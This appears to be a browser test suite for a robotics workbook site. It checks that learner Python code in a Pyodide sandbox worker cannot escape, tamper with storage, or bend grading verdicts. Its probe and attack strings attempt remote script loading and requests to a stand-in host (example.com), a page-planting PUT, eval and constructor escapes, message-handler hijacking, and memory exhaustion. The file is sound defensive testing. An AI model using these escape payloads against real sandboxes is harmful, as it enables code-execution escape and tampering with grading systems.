"""Issue 21 in the page: learner code runs in the sandbox worker, reaches nothing of the
origin, and bends no verdict. Each attack is joined to a wrong function and must not make
it pass; after each, a correct run passes, a wrong run fails and the grader still grades.
Careless code gets a verdict, and a sandbox that died is replaced within the time limit."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from playwright.sync_api import Page

from conftest import SITE
from helpers import (
    CHAPTERS,
    answer_derive,
    exercise,
    feedback,
    keep_to_origin,
    open_chapter,
    role,
    run_build,
    set_editor,
    settle,
    wait_runtime,
)
from test_offline import kept_later
from workbook import bank

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "unit"))
from test_attacks import ATTACKS as NATIVE

EX = bank.get("0.5")
GOOD = EX.solution
WRONG = "def rotate_2d(x, y, theta):\n    return (x, y)\n"
LONG = 90_000

# Tries every way out of the sandbox and prints what happened to each, as JSON.
PROBE = '''import json
out = {}
def attempt(name, action):
    try:
        action()
        out[name] = "ran"
    except BaseException as err:
        out[name] = "blocked: " + type(err).__name__
import js, pyodide_js
PAGE = "../../chapters/01-transforms/"
attempt("postMessage", lambda: js.postMessage(js.JSON.parse('{"id": 1, "type": "reply"}')))
attempt("self.postMessage", lambda: js.self.postMessage(1))
attempt("the prototype's postMessage", lambda: js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, 1))
attempt("close", lambda: js.self.close())
attempt("importScripts", lambda: js.importScripts("https://example.com/planted.js"))
attempt("eval", lambda: js.eval("1 + 1"))
attempt("Function", lambda: js.Function("return 1")())
attempt("a function's constructor", lambda: js.Object.getPrototypeOf(js.setTimeout).constructor("return 1")())
attempt("an async function's constructor", lambda: js.Object.getPrototypeOf(pyodide_js.loadPackage).constructor("return 1")())
attempt("run_js", lambda: __import__("pyodide.code").code.run_js("1"))
attempt("setTimeout with a string", lambda: js.setTimeout("self.planted = 1", 0))
attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new())
attempt("WebSocket", lambda: js.WebSocket.new("wss://example.com/"))
attempt("EventSource", lambda: js.EventSource.new("https://example.com/"))
attempt("Cache Storage", lambda: js.caches.open("planted"))
attempt("Cache Storage on the prototype", lambda: js.WorkerGlobalScope.prototype.caches)
attempt("IndexedDB", lambda: js.indexedDB.open("planted"))
attempt("Worker", lambda: js.Worker.new("planted.js"))
attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("robotics-workbook"))
attempt("Web Locks", lambda: js.navigator.locks.request("planted", js.setTimeout))
attempt("the origin's file system", lambda: js.navigator.storage.getDirectory())
attempt("the grading package", lambda: __import__("workbook"))
js.fetch("https://example.com/planted?from=fetch")
js.fetch(PAGE, js.JSON.parse('{"method": "PUT", "body": "PLANTED"}'))
pyodide_js.loadPackage("robotics-workbook")
print(json.dumps(out))
'''
ESCAPES = ["postMessage", "self.postMessage", "the prototype's postMessage", "close", "importScripts", "eval",
           "Function", "a function's constructor", "an async function's constructor", "run_js", "setTimeout with a string",
           "XMLHttpRequest", "WebSocket", "EventSource", "Cache Storage", "Cache Storage on the prototype", "IndexedDB",
           "Worker", "BroadcastChannel", "Web Locks", "the origin's file system", "the grading package"]

ATTACKS = {
    **{name: (code if "def rotate_2d" in code else code + WRONG, "incorrect") for name, code in NATIVE.items()},
    "every way out of the sandbox": (PROBE + WRONG, "incorrect"),
    "replace js.self.onmessage": (
        "import js\nfrom pyodide.ffi import create_proxy\n"
        "js.self.onmessage = create_proxy(lambda event: js.self.postMessage(event.data))\n"
        "js.self.addEventListener('message', create_proxy(lambda event: None))\n" + WRONG, "incorrect"),
    "dispatch a fake request": (
        "import js\nrequest = js.JSON.parse('{\"id\": 999, \"op\": \"run\", \"job\": \"{}\", \"code\": \"\"}')\n"
        "js.self.dispatchEvent(js.MessageEvent.new('message', js.JSON.parse('{}')))\n" + WRONG, "incorrect"),
    "exit()": ("exit()\n" + GOOD, "incorrect"),
    "sys.exit()": ("import sys\ndef rotate_2d(x, y, theta):\n    sys.exit(0)\n", "incorrect"),
    "raise KeyboardInterrupt": ("def rotate_2d(x, y, theta):\n    raise KeyboardInterrupt\n", "incorrect"),
    "factorial(200)": ("import math\ndef rotate_2d(x, y, theta):\n    return (math.factorial(200), y)\n", "incorrect"),
    # 2 ** 30 pointers: 4 GB on the page's 32-bit Python (2 ** 40 would not even fit an index there)
    "out of memory": ("def rotate_2d(x, y, theta):\n    return [0] * (2 ** 30)\n", "incorrect"),
}
MESSAGES = {
    "exit()": "Your code raised SystemExit while loading.",
    "sys.exit()": "0 of 5 tests pass.",
    "raise KeyboardInterrupt": "0 of 5 tests pass.",
    "factorial(200)": "0 of 5 tests pass.",
    "out of memory": "Your code ran out of memory on rotate_2d(3, 0, 1.570796); the sandbox was restarted. 0 of 5 tests pass.",
    "mutate api.HANDLERS": "Your code raised ModuleNotFoundError while loading.",
    "swap the reference's __code__": "Your code raised ModuleNotFoundError while loading.",
}


@pytest.fixture(scope="module")
def lab(browser, site_url):
    """One page of chapter 0 for every attack (each leaves the sandbox replaced, or as it was).
    No service worker: the offline copy would fetch every file of the site (the package's wheel
    too) in the background, and its requests would look like an attack's (the attacks under the
    service worker are test_attacks_change_no_stored_byte_and_plant_no_page's)."""
    context = browser.new_context(service_workers="block")
    blocked = keep_to_origin(context, site_url)
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    page = context.new_page()
    page.set_default_timeout(LONG)
    errors: list[str] = []
    page.on("pageerror", lambda err: errors.append(str(err)))
    open_chapter(page, site_url, 0)
    exercise(page, "0.5").scroll_into_view_if_needed()  # the sandbox starts near a Build exercise
    page.wait_for_function("() => window.workbook.sandbox && window.workbook.sandbox.ready", timeout=LONG)
    yield page, requests
    assert blocked == [] and errors == []
    context.close()


def printed(ex) -> dict:
    text = ex.locator(role("stdout")).inner_text()
    return json.loads(text.split("\n", 1)[1])


def grades_as_before(page: Page) -> None:
    ex = exercise(page, "0.5")
    set_editor(page, ex, GOOD)
    assert run_build(ex, LONG) == "correct"
    set_editor(page, ex, WRONG)
    assert run_build(ex, LONG) == "incorrect"
    assert answer_derive(exercise(page, "0.1"), "3") == "correct"


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_attack_in_the_page_bends_no_verdict(lab, name):
    page, requests = lab
    code, state = ATTACKS[name]
    ex = exercise(page, "0.5")
    set_editor(page, ex, code)
    seen = len(requests)
    assert run_build(ex, LONG) == state, feedback(ex)
    if name in MESSAGES:
        assert feedback(ex) == MESSAGES[name]
    if name == "every way out of the sandbox":
        outcome = printed(ex)
        assert {k: v.split(":")[0] for k, v in outcome.items()} == dict.fromkeys(ESCAPES, "blocked"), outcome
        made = requests[seen:]
        assert not [url for url in made if "planted" in url or "robotics_workbook" in url or "example.com" in url], made
    grades_as_before(page)


def test_a_sandbox_that_died_is_replaced_and_the_run_goes_on(lab):
    page, _ = lab
    ex = exercise(page, "0.5")
    set_editor(page, ex, GOOD)
    assert run_build(ex, LONG) == "correct"
    lost = page.evaluate("workbook.sandbox.lost || 0")
    page.evaluate("workbook.sandbox.worker.terminate()")  # as if the browser had killed it: no message, no error
    assert run_build(ex, LONG) == "correct"
    assert page.evaluate("workbook.sandbox.lost") == lost + 1


@pytest.mark.browser_context_args(service_workers="allow")
def test_attacks_change_no_stored_byte_and_plant_no_page(page, site_url):
    """With the service worker serving the site, every attack runs once; nothing is solved, the
    storage holds only the workbook's own record, the caches are as stored, and the page that
    the probe tried to plant is served as built."""
    open_chapter(page, site_url, 0)
    page.wait_for_function("() => document.documentElement.dataset.workbookOffline === 'ready'", timeout=LONG)
    page.reload()
    open_chapter(page, site_url, 0)
    target = site_url + CHAPTERS[1]
    # The sandbox's snapshot may be kept while the attacks run (the service worker keeps it when the
    # sandbox first fetches it): counted apart, and its bytes must be the manifest's.
    snapshot = """async (url) => {
      const out = {};
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        const keys = await cache.keys();
        out[name] = keys.filter((r) => !r.url.endsWith('/sandbox.snapshot.gz')).length;
        const kept = keys.find((r) => r.url.endsWith('/sandbox.snapshot.gz'));
        if (kept) {
          const bytes = await (await cache.match(kept)).arrayBuffer();
          const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
          out.keptSandboxSnapshot = 'sha256-' + btoa(String.fromCharCode(...digest));
        }
        const hit = await cache.match(url);
        if (hit) out[name + ' ' + url] = await hit.text();
      }
      return [out, Object.keys(localStorage).sort()];
    }"""
    before = page.evaluate(snapshot, target)
    assert any(target in key for key in before[0]), "the page is stored"
    ex = exercise(page, "0.5")
    for name in sorted(ATTACKS):
        set_editor(page, ex, ATTACKS[name][0])
        assert run_build(ex, LONG) != "correct", name
    after = page.evaluate(snapshot, target)
    kept = after[0].pop("keptSandboxSnapshot", None)
    before[0].pop("keptSandboxSnapshot", None)
    assert kept in (None, kept_later((SITE / "sw.js").read_text())[0][3])  # the manifest's bytes, inflated
    assert after[0] == before[0]  # every cache as it was stored
    assert set(after[1]) - set(before[1]) == {k for k in after[1] if k.endswith(":progress")}  # the attempts only
    (key,) = [k for k in after[1] if k.endswith(":progress")]
    record = json.loads(page.evaluate("(key) => localStorage.getItem(key)", key))["exercises"]["0.5"]
    assert record["attempts"] == len(ATTACKS) and not record.get("solved") and 0 not in (record.get("done") or [])
    page.goto(target)
    assert "PLANTED" not in page.content()
    exercise(page, "1.1").wait_for()


IDLE = "() => new Promise((resolve) => requestIdleCallback(resolve, {timeout: 2000}))"


def test_the_sandbox_starts_from_its_snapshot_near_build_code_once_the_grader_is_ready(page, site_url):
    page.goto(site_url + "progress/")  # no Build exercise: no sandbox, ever
    page.wait_for_function("() => window.workbook && window.workbook.progress", timeout=LONG)
    page.evaluate(IDLE)
    assert page.evaluate("'sandbox' in window.workbook") is False
    open_chapter(page, site_url, 0)  # read from the top, 0.5 more than a screen and a half below: no sandbox yet
    ex = exercise(page, "0.5")
    assert page.evaluate("el => el.getBoundingClientRect().top - 2.5 * innerHeight", ex.element_handle()) > 0
    page.evaluate(IDLE)
    assert page.evaluate("'sandbox' in window.workbook") is False
    ex.scroll_into_view_if_needed()  # near the viewport: it starts once the page is idle, before any Run
    page.wait_for_function("() => window.workbook.sandbox && window.workbook.sandbox.ready", timeout=LONG)
    assert ex.get_attribute("data-state") == "unanswered"
    # after the grader was ready (it never competes with the grader's start), from a snapshot of its own
    assert page.evaluate("workbook.sandbox.startedAt >= workbook.runtime.readyAt")
    stages = page.evaluate("workbook.sandbox.startStages")
    assert stages["from"] == "snapshot"
    assert 0 < stages["booted"] <= stages["warm"] <= stages["ready"] and stages["wasmBytes"] > 1_000_000  # warmed up first
    # Pyodide's WebAssembly compiled once: the sandbox starts from the grader's module (boot.js), not a second compile.
    assert stages["wasm"] == "shared"
    set_editor(page, ex, GOOD)
    assert run_build(ex, LONG) == "correct"
    # A sandbox replaced after code that was not plain starts from the same module.
    spawns = page.evaluate("workbook.sandbox.spawns")
    set_editor(page, ex, "import sys\n" + GOOD)
    assert run_build(ex, LONG) == "correct"
    page.wait_for_function("n => workbook.sandbox.spawns > n && workbook.sandbox.ready", arg=spawns, timeout=LONG)
    assert page.evaluate("workbook.sandbox.startStages.wasm") == "shared"


def test_the_sandbox_waits_while_the_learner_checks_answers(page, site_url):
    """The sandbox's start takes a core for a while: near Build code, it still waits until the grader
    has been quiet for 3 s (kinds/build.js), so a learner checking answers right after the page
    opened is not slowed down by it. Moving into the Build exercise starts it at once."""
    open_chapter(page, site_url, 0)
    ex = exercise(page, "0.5")
    ex.scroll_into_view_if_needed()  # near the viewport, the grader ready
    # A learner checking 0.1 every 0.8 s for 4 s: each Check starts the grader's quiet time again.
    last = page.evaluate("""async () => {
      const el = document.querySelector('[data-exercise-id="0.1"]');
      let last = 0;
      for (let i = 0; i < 6; i++) {
        el.querySelector('[data-role="answer"]').value = String(i);
        const answered = new Promise((resolve) => new MutationObserver((_, mo) => {
          if (el.dataset.state !== 'pending') { mo.disconnect(); resolve(); }
        }).observe(el, { attributes: true, attributeFilter: ['data-state'] }));
        el.querySelector('[data-role="check"]').click();
        await answered;
        last = performance.now();
        if ('sandbox' in window.workbook) return null;
        await new Promise((resolve) => setTimeout(resolve, 800));
      }
      return last;
    }""")
    assert last is not None, "the sandbox started while the learner was checking answers"
    page.wait_for_function("() => window.workbook.sandbox && window.workbook.sandbox.ready", timeout=LONG)
    assert page.evaluate("workbook.sandbox.startedAt") >= last + 3000
    # Moving into a Build exercise starts it without waiting.
    page.reload()
    wait_runtime(page)
    assert page.evaluate("""() => {
      document.querySelector('[data-exercise-id="0.1"] [data-role="check"]').click(); // the grader busy
      document.querySelector('[data-exercise-id="0.5"] [data-role="run"]').focus();
      return 'sandbox' in window.workbook;
    }""")


def test_runs_that_queue_up_are_sent_one_at_a_time(lab):
    """A run longer than the acknowledgement wait, with another behind it: neither is taken for a lost sandbox."""
    page, _ = lab
    slow = ("import time\nstart = time.monotonic()\nwhile time.monotonic() - start < 6:\n    pass\n" + GOOD)
    replies = page.evaluate("""async ([slow, good]) => {
      const cases = await workbook.runtime.request({op: "cases", exercise: "0.5", code: good});
      const box = workbook.sandbox, lost = box.lost || 0;
      const run = (code) => box.request({op: "run", job: cases.value.job, code}, {limitMs: 30000});
      const replies = await Promise.all([run(slow), run(good)]);
      return {oks: replies.map((r) => r.ok), lost: (box.lost || 0) - lost};
    }""", [slow, GOOD])
    assert replies == {"oks": [True, True], "lost": 0}


def test_a_sandbox_that_could_not_start_is_started_again(page, site_url):
    """The sandbox's own files (its standard library and lock file) cannot be fetched until its
    start has failed (a start from the snapshot that fails falls back to a plain start within the
    same start, boot.js: both are refused); the first Run then starts a fresh sandbox, which works."""
    failures = []
    refusing = [True]

    def refuse(route):
        if refusing[0]:
            failures.append(route.request.url)
            route.abort()
        else:
            route.continue_()
    page.route("**/python_stdlib.sandbox.zip", refuse)
    page.route("**/pyodide-lock.sandbox.json", refuse)
    open_chapter(page, site_url, 0)
    exercise(page, "0.5").scroll_into_view_if_needed()  # the sandbox starts when the page is idle, and fails
    page.wait_for_function("() => window.workbook.sandbox && window.workbook.sandbox.failure", timeout=LONG)
    refusing[0] = False
    assert page.evaluate("document.documentElement.dataset.workbookRuntime") == "ready"  # the grader's state is its own
    ex = exercise(page, "0.5")
    set_editor(page, ex, GOOD)
    assert run_build(ex, LONG) == "correct"  # the first Run starts a fresh one
    assert failures


def test_a_second_run_starts_in_the_sandbox_while_the_grader_reads_the_code(lab):
    """From an exercise's second run on, its job is known (seeded cases): the sandbox runs the code
    while the grader's `cases` says whether it is plain; held back here, the run still starts, and the
    verdict waits for it. Code that is not plain still replaces the sandbox afterwards."""
    page, _ = lab
    ex = exercise(page, "0.5")
    set_editor(page, ex, GOOD)
    assert run_build(ex, LONG) == "correct"  # the job of 0.5's variant 0 is known from here on
    page.evaluate("""() => {
      const grader = window.workbook.runtime, request = grader.request.bind(grader);
      const box = window.workbook.sandbox, run = box.request.bind(box);
      window.__held = null; window.__ranWhileHeld = 0;
      grader.request = (msg, options) => msg.op !== "cases" ? request(msg, options)
        : new Promise((resolve) => { window.__held = () => resolve(request(msg, options)); });
      box.request = (msg, options) => { if (window.__held) window.__ranWhileHeld += 1; return run(msg, options); };
    }""")
    ex.locator(role("run")).click()
    page.wait_for_function("() => window.__ranWhileHeld === 1", timeout=LONG)
    assert ex.get_attribute("data-state") == "pending"  # the verdict needs the grader's word too
    page.evaluate("() => window.__held()")
    assert settle(ex, LONG) == "correct"
    spawns = page.evaluate("workbook.sandbox.spawns")
    page.evaluate("() => { delete window.workbook.runtime.request; delete window.workbook.sandbox.request; }")
    set_editor(page, ex, "import sys\n" + GOOD)  # not plain: the sandbox is replaced after its run
    assert run_build(ex, LONG) == "correct"
    assert page.evaluate("workbook.sandbox.spawns") == spawns + 1
    page.wait_for_function("() => window.workbook.sandbox.ready", timeout=LONG)
